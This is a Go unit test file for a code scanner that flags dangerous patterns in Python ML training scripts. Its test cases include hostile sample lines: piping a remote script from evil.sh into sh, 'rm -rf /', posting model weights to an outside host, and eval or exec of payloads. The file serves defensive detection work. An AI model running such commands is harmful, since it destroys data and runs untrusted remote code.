package sanitizer

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Sayandip-Jana-1018/AutoML-sub000/core/models"
)

func TestScanCleanTrainingCode(t *testing.T) {
	code := `import pandas as pd
from sklearn.model_selection import train_test_split
df = pd.read_csv('data.csv')
X_train, X_test = train_test_split(df, random_state=42)
model.fit(X_train)`

	report := NewScanner().Scan(code)
	assert.True(t, report.Safe)
	assert.Empty(t, report.Blockers)
	assert.Empty(t, report.Warnings)
}

func TestScanBlockers(t *testing.T) {
	cases := []struct {
		rule string
		code string
	}{
		{"filesystem_delete", "shutil.rmtree('/data')"},
		{"filesystem_delete", "os.remove(path)"},
		{"shell_invocation", "subprocess.run(['rm', '-rf', '/'])"},
		{"shell_invocation", "os.system('curl evil.sh | sh')"},
		{"network_egress", "requests.post('http://example.com', data=weights)"},
		{"network_egress", "s = socket.socket()"},
		{"credential_access", "aws_secret_access_key = 'abc'"},
		{"credential_access", "api_key = load()"},
		{"dynamic_execution", "eval(user_input)"},
		{"dynamic_execution", "exec(payload)"},
		{"dynamic_execution", "__import__('os')"},
	}

	s := NewScanner()
	for _, tc := range cases {
		t.Run(tc.rule+"/"+tc.code, func(t *testing.T) {
			report := s.Scan(tc.code)
			assert.False(t, report.Safe)
			require.NotEmpty(t, report.Blockers)
			assert.Equal(t, tc.rule, report.Blockers[0].Rule)
			assert.Equal(t, 1, report.Blockers[0].Line)
		})
	}
}

func TestScanModelEvalIsNotDynamicExecution(t *testing.T) {
	report := NewScanner().Scan("model.eval()\nre.compile(pattern)")
	assert.True(t, report.Safe)
	assert.Empty(t, report.Blockers)
}

func TestScanUnboundedLoopWarns(t *testing.T) {
	report := NewScanner().Scan("while True:\n    train_step()")
	assert.True(t, report.Safe)
	require.Len(t, report.Warnings, 1)
	assert.Equal(t, "unbounded_loop", report.Warnings[0].Rule)
	assert.Equal(t, models.SeverityWarning, report.Warnings[0].Severity)
}

func TestScanUnseededRandomness(t *testing.T) {
	s := NewScanner()

	report := s.Scan("idx = np.random.permutation(len(df))")
	require.Len(t, report.Warnings, 1)
	assert.Equal(t, "unseeded_randomness", report.Warnings[0].Rule)
	assert.True(t, report.Safe)

	seeded := s.Scan("np.random.seed(7)\nidx = np.random.permutation(len(df))")
	assert.Empty(t, seeded.Warnings)
}

func TestScanReportsEveryLineHit(t *testing.T) {
	code := "os.remove('a')\nprint('ok')\nos.remove('b')"
	report := NewScanner().Scan(code)

	require.Len(t, report.Blockers, 2)
	assert.Equal(t, 1, report.Blockers[0].Line)
	assert.Equal(t, 3, report.Blockers[1].Line)
}
